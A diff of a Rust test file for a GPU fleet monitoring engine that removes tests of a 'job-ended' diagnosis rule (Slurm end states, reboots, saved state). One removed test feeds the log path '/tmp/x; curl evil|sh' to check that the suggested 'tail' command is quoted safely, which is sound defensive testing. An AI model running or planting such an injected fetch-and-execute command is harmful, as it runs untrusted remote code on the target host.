@@ -1,7 +1,7 @@
-use crate::diagnosis::testing::{RuleTester, TestSample};
+use crate::diagnosis::testing::{RuleTester, TestSample, trains};
 use crate::fleet::fixture::{TestProcess, at, gpus, process};
 use crate::fleet::{GpuState, HostId};
-use crate::wire::{Ancestor, Owner, SafeText, SlurmJobEnd, XidEvent};
+use crate::wire::{Ancestor, Owner, SafeText};
 
 fn job(command: &str, cores: f32) -> Vec<TestProcess> {
     let mut job = process(7, command, &[(0, 40)]);
@@ -234,111 +234,6 @@ fn a_single_rank_that_was_started_for_several_hosts_waits_for_the_others() {
 }
 
 #[test]
-fn a_program_that_ends_again_and_again_is_listed() {
-    let runs = |lengths: [f64; 4]| {
-        let mut tester = RuleTester::new(gpus(0..1));
-        for (pid, length) in (7..).zip(lengths) {
-            tester.run(length, |tester, _| TestSample {
-                gpus: vec![tester.gpu(30, 200.0, 10, 40)],
-                processes: vec![process(pid, "python serve.py", &[(0, 40)])],
-            });
-            tester.run(30.0, |tester, _| empty(tester));
-        }
-        tester.fired()
-    };
-    // The age of a process in these tests is over an hour, so the runs seem equally long.
-    assert_eq!(runs([120.0, 130.0, 120.0, 120.0]), [("job-ended", "info")]);
-}
-
-#[test]
-fn an_orchestrator_that_waits_longer_and_longer_is_listed_too() {
-    let fired = |owner: Option<Owner>| {
-        let mut tester = RuleTester::new(gpus(0..1));
-        tester.interval = 20.0;
-        for run in 0..8_u32 {
-            let mut server = process(7 + run, "VLLM::Worker_TP", &[(0, 40)]);
-            server.facts.owner = owner.clone();
-            tester.run_edited(
-                280.0,
-                |tester, _| TestSample { gpus: vec![tester.gpu(0, 68.0, 0, 40)], processes: vec![server.clone()] },
-                |snapshot, passed| snapshot.processes.age_seconds = vec![Some(passed)],
-            );
-            tester.run(700.0, |tester, _| empty(tester));
-        }
-        tester.fired().into_iter().filter(|(rule, _)| *rule == "job-ended").count()
-    };
-    let pod = Owner::Pod { uid: "models-llama".into(), container: None };
-    assert_eq!(fired(Some(pod)), 2, "listed from the fourth end on, and a warning after the eighth");
-    assert_eq!(fired(None), 0, "somebody starts it again");
-}
-
-#[test]
-fn the_runs_of_a_sweep_that_end_beside_another_job_on_a_full_gpu_are_counted_together() {
-    let fired = |others_gib: u64| {
-        let mut tester = RuleTester::new(gpus(0..1));
-        for run in 0..4_u32 {
-            let command = format!("python train.py --lr=0.00{run}");
-            let notebook = process(5, "python -m ipykernel_launcher", &[(0, others_gib)]);
-            tester.run_edited(
-                120.0,
-                |tester, _| TestSample {
-                    gpus: vec![tester.gpu(30, 200.0, 10, 30 + others_gib)],
-                    processes: vec![notebook.clone(), process(7 + run, &command, &[(0, 30)])],
-                },
-                |snapshot, passed| snapshot.processes.age_seconds = vec![Some(9000.0), Some(passed)],
-            );
-            tester.run(30.0, |tester, _| TestSample {
-                gpus: vec![tester.gpu(0, 70.0, 0, others_gib)],
-                processes: vec![notebook.clone()],
-            });
-        }
-        tester.fired().contains(&("job-ended", "info"))
-    };
-    assert!(fired(46), "76 of 80 GiB");
-    assert!(!fired(30), "runs that end on a GPU with room");
-}
-
-#[test]
-fn ranks_that_end_together_are_no_runs_in_a_row() {
-    let mut tester = RuleTester::new(gpus(0..8));
-    let ranks = |tester: &mut RuleTester, _: f64| {
-        let rank = |gpu: u16| process(70 + u32::from(gpu), "python train.py", &[(gpu, 1)]);
-        TestSample { gpus: (0..8).map(|_| tester.gpu(0, 70.0, 0, 1)).collect(), processes: (0..8).map(rank).collect() }
-    };
-    tester.run_edited(100.0, ranks, |snapshot, passed| snapshot.processes.age_seconds = vec![Some(passed); 8]);
-    tester.run(60.0, |tester, _| TestSample {
-        gpus: (0..8).map(|_| tester.gpu(0, 50.0, 0, 0)).collect(),
-        processes: vec![],
-    });
-    assert_eq!(tester.fired(), []);
-}
-
-#[test]
-fn long_runs_that_never_load_anything_count_within_four_times_their_length() {
-    let runs = |lengths: &[f64]| {
-        let mut tester = RuleTester::new(gpus(0..1));
-        tester.interval = 20.0;
-        for (pid, length) in (7..).zip(lengths.iter().copied()) {
-            tester.run_edited(
-                length,
-                |tester, _| {
-                    let mut waits = process(pid, "python serve.py", &[(0, 0)]);
-                    waits.gpus[0].gpu_memory_bytes = Some(430 << 20);
-                    TestSample { gpus: vec![tester.gpu(0, 70.0, 0, 0)], processes: vec![waits] }
-                },
-                |snapshot, passed| snapshot.processes.age_seconds = vec![Some(passed)],
-            );
-            tester.run(60.0, |tester, _| empty(tester));
-        }
-        tester.fired()
-    };
-    assert_eq!(runs(&[1200.0; 4]), [("job-ended", "info")]);
-    assert_eq!(runs(&[1200.0, 3000.0, 1200.0, 1200.0]), [], "somebody tries something");
-    assert_eq!(runs(&[60.0; 7]), [("job-ended", "info")]);
-    assert_eq!(runs(&[60.0; 8]), [("job-ended", "info"), ("job-ended", "warn")], "nobody tries the same eight times");
-}
-
-#[test]
 fn a_service_that_is_idle_for_hours_is_info_and_a_batch_job_warns() {
     let run = |owner: Option<Owner>| {
         let mut tester = RuleTester::new(gpus(0..1));
@@ -568,110 +463,6 @@ fn tiny_cpu_time_proves_idle_time_at_the_first_sample() {
     assert_eq!(tester.engine.states(HostId(0))[0], (GpuState::Idle, Some(at(1000.0))), "since the first sample");
 }
 
-fn trains(tester: &mut RuleTester) -> TestSample {
-    TestSample { gpus: vec![tester.gpu(97, 500.0, 40, 40)], processes: vec![process(7, "python train.py", &[(0, 40)])] }
-}
-
-fn empty(tester: &mut RuleTester) -> TestSample {
-    TestSample { gpus: vec![tester.gpu(0, 70.0, 0, 0)], processes: vec![] }
-}
-
-#[test]
-fn an_ended_job_is_listed_for_ten_minutes() {
-    let mut tester = RuleTester::new(gpus(0..1));
-    tester.run(900.0, |tester, _| trains(tester));
-    tester.run(20.0, |tester, _| empty(tester));
-    assert_eq!((tester.firing(), tester.notified()), (vec![("job-ended", "info")], 0));
-    assert_eq!(
-        tester.finding("job-ended").sentence,
-        "train.py (alice, pid 7) ended after 3 h 18 min: it left GPU 0 and released 40 GiB"
-    );
-    tester.run(600.0, |tester, _| empty(tester));
-    assert_eq!(tester.firing(), []);
-}
-
-#[test]
-fn the_end_of_a_slurm_job_has_the_state_that_slurm_tells_later() {
-    let mut tester = RuleTester::new(gpus(0..1));
-    let trains = |tester: &mut RuleTester, _: f64| {
-        let mut sample = trains(tester);
-        sample.processes[0].facts.owner = Some(Owner::Slurm { job: "3385".into(), step: None });
-        sample
-    };
-    tester.run(900.0, trains);
-    tester.run(90.0, |tester, _| empty(tester));
-    let sentence = tester.finding("job-ended").sentence.to_string();
-    assert!(sentence.ends_with("it left GPU 0 and released 40 GiB"), "{sentence}");
-    let end = |state: &str, job: &str| SlurmJobEnd {
-        job: job.into(),
-        state: state.into(),
-        exit_status: Some(1),
-        signal: None,
-    };
-    let tells = |tester: &mut RuleTester, end: SlurmJobEnd| {
-        tester.run_edited(20.0, |tester, _| empty(tester), |snapshot, _| snapshot.host.slurm_ends = vec![end.clone()]);
-        (tester.finding("job-ended").sentence.to_string(), tester.firing())
-    };
-    let (other, _) = tells(&mut tester, end("FAILED", "99"));
-    assert_eq!(other, sentence, "another job");
-    let (text, firing) = tells(&mut tester, end("FAILED", "3385"));
-    assert_eq!(text, sentence + "; Slurm: failed with exit status 1");
-    assert_eq!(firing, [("job-ended", "warn")], "it is a job of the login user");
-    tester.run(600.0, |tester, _| empty(tester));
-    assert_eq!(tester.firing(), []);
-    let mut tester = RuleTester::new(gpus(0..1));
-    tester.run(900.0, trains);
-    tester.run(20.0, |tester, _| empty(tester));
-    let (text, firing) = tells(&mut tester, end("COMPLETED", "3385"));
-    assert!(text.ends_with("; Slurm: completed"), "{text}");
-    assert_eq!(firing, [("job-ended", "info")]);
-}
-
-#[test]
-fn a_job_that_ends_with_a_reboot_warns_and_an_xid_has_its_own_finding() {
-    let mut tester = RuleTester::new(gpus(0..1));
-    tester.run(900.0, |tester, _| trains(tester));
-    tester.run_edited(
-        20.0,
-        |tester, _| empty(tester),
-        |snapshot, _| {
-            snapshot.xid_events = vec![XidEvent { gpu: Some(0), xid: 31, monotonic_seconds: 0.0 }];
-        },
-    );
-    assert_eq!(tester.firing(), [("job-ended", "info"), ("xid-seen", "info")]);
-    let mut tester = RuleTester::new(gpus(0..1));
-    tester.run(900.0, |tester, _| trains(tester));
-    tester.reboot(0);
-    tester.run(20.0, |tester, _| empty(tester));
-    assert_eq!(tester.firing(), [("job-ended", "warn"), ("host-rebooted", "info")]);
-    assert!(tester.finding("job-ended").sentence.ends_with("; the host was rebooted"));
-    assert!(tester.finding("host-rebooted").sentence.ends_with("; 1 program on its GPUs ended"));
-}
-
-#[test]
-fn the_end_of_a_small_job_is_not_reported() {
-    let mut tester = RuleTester::new(gpus(0..1));
-    let mut small = process(7, "python a.py", &[(0, 0)]);
-    small.gpus[0].gpu_memory_bytes = Some(100 << 20);
-    tester.run(900.0, |tester, _| TestSample { processes: vec![small.clone()], ..empty(tester) });
-    tester.run(20.0, |tester, _| empty(tester));
-    assert_eq!(tester.fired(), []);
-}
-
-#[test]
-fn a_job_that_ended_between_two_runs_is_reported() {
-    let mut tester = RuleTester::new(gpus(0..1));
-    tester.run(900.0, |tester, _| trains(tester));
-    let saved = tester.engine.to_saved_state(&tester.fleet, tester.now());
-    let mut next = RuleTester::new(gpus(0..1));
-    next.t = tester.t + 7200.0;
-    next.engine.restore(saved, next.now());
-    next.run(20.0, |tester, _| empty(tester));
-    assert_eq!(next.firing(), [("job-ended", "info")]);
-    let sentence = next.finding("job-ended").sentence.to_string();
-    assert!(sentence.contains("ended within the last 2 h without data"), "{sentence}");
-}
-
 #[test]
 fn a_log_without_writes_is_info() {
     let mut tester = RuleTester::new(gpus(0..1));
@@ -803,24 +594,6 @@ fn workers_of_ray_in_a_task_that_hold_nothing_but_a_context_wait_for_each_other(
     };
     assert_eq!(run("ray::_RayTrainWorker__execute"), [("rendezvous-stuck", "warn")]);
     assert_eq!(run("ray::TrainWorker"), []);
-}
-
-#[test]
-fn the_next_step_quotes_the_path_of_the_log() {
-    for (path, next) in [
-        ("/home/alice/run.log", "tail /home/alice/run.log"),
-        ("/tmp/x; curl evil|sh", "tail '/tmp/x; curl evil|sh'"),
-        ("-f", "read the end of its log"),
-    ] {
-        let mut tester = RuleTester::new(gpus(0..1));
-        tester.run(900.0, |tester, _| {
-            let mut test_sample = trains(tester);
-            test_sample.processes[0].facts.log_path = Some(path.into());
-            test_sample
-        });
-        tester.run(20.0, |tester, _| empty(tester));
-        assert_eq!(tester.finding("job-ended").next_check, next);
-    }
 }
 
 #[test]
